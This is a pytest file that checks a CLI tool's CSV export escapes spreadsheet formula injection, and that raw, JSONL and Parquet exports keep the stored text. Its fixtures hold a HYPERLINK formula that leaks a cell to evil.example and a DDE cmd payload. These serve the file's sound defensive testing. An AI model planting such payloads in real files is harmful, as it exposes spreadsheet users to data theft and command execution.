"""CSV safe to open in a spreadsheet (docs/export.md "Spreadsheets"): a text cell a
spreadsheet would run as a formula is written with a leading ``'``; ``--csv-raw`` keeps every
cell as stored; JSON Lines and Parquet are as stored always."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from groundtui.cli import cli
from groundtui.exporting.claim_rows import COLUMNS, FORMULA_STARTS
from tests.helpers.builders import imported_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for the source")'
SOURCE = {"id": "=src", "origin": "@origin", "text": "-3 °C is the record low; +44 20 7946 0000."}


def _answer(n: int, start: str) -> dict:
    """An answer whose every text an end user or a model wrote starts with ``start``."""
    return {
        "id": f"{start}id-{n}",
        "question": f"{start}{LEAK}" if start != "=" else LEAK,
        "response": f"{start}3 °C is the record low [1].",
        "sources": [SOURCE],
        "meta": {"user": f"{start}cmd|' /C calc'!A0"},
        "claims": [
            {
                "text": f"{start}3 °C is the record low.",
                "kind": "figure",
                "citation": 1,
                "verdict": "stated",
                "judge": f"{start}judge",
                "reviews": [
                    {
                        "reviewer": "dana",
                        "verdict": "stated",
                        "note": f"{start}SUM(1+1)",
                        "at": "2026-12-01T10:00:00Z",
                    }
                ],
            }
        ],
    }


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return imported_db(
        tmp_path, "formulas", [_answer(n, start) for n, start in enumerate(FORMULA_STARTS)]
    )


def _export(db: Path, *options: str) -> list[dict[str, str]]:
    run = CliRunner().invoke(cli, ["export", "--format", "csv", *options, "--db", str(db)])
    assert run.exit_code == 0, run.output
    return list(csv.DictReader(io.StringIO(run.stdout)))


def _stored(db: Path) -> list[dict]:
    run = CliRunner().invoke(cli, ["export", "--db", str(db)])
    assert run.exit_code == 0, run.output
    return [json.loads(line) for line in run.stdout.splitlines()]


def test_no_csv_cell_starts_as_a_formula_and_each_reads_as_the_stored_text(db: Path) -> None:
    rows, stored = _export(db), _stored(db)
    assert len(rows) == len(FORMULA_STARTS)
    escaped = 0
    for row, kept in zip(rows, stored, strict=True):
        for column in COLUMNS:
            cell, value = row[column], kept[column]
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                assert cell == "'" + value  # what a spreadsheet shows: the text itself
                escaped += 1
    # the question, response, claim, note, judge, ids, source id and origin, source text
    assert escaped >= 10 * len(FORMULA_STARTS)
    assert {r["citation"] for r in rows} == {"1"}  # a number column is written as the number
    assert rows[0]["question"] == "'" + LEAK


def test_csv_raw_writes_every_cell_as_stored_for_programs(db: Path) -> None:
    for row, kept in zip(_export(db, "--csv-raw"), _stored(db), strict=True):
        assert row["question"] == kept["question"]
        assert row["claim"] == kept["claim"]
        assert row["note"] == kept["note"]
        assert json.loads(row["meta"]) == kept["meta"]
    assert _export(db, "--csv-raw")[0]["question"] == LEAK


def test_json_lines_and_parquet_hold_the_text_as_stored(db: Path, tmp_path: Path) -> None:
    stored = _stored(db)
    assert stored[0]["question"] == LEAK
    assert [r["note"] for r in stored] == [f"{s}SUM(1+1)" for s in FORMULA_STARTS]
    out = tmp_path / "labels.parquet"
    run = CliRunner().invoke(
        cli, ["export", "--format", "parquet", "-o", str(out), "--db", str(db)]
    )
    assert run.exit_code == 0, run.output
    table = pq.read_table(out).to_pylist()
    assert [r["question"] for r in table] == [r["question"] for r in stored]
    assert [r["claim"] for r in table] == [r["claim"] for r in stored]


def test_csv_raw_is_for_csv_only(db: Path) -> None:
    run = CliRunner().invoke(cli, ["export", "--csv-raw", "--db", str(db)])
    assert run.exit_code == 2
    assert run.stderr == (
        "groundtui: --csv-raw is for --format csv; --format jsonl holds every cell as stored "
        "already\n"
    )
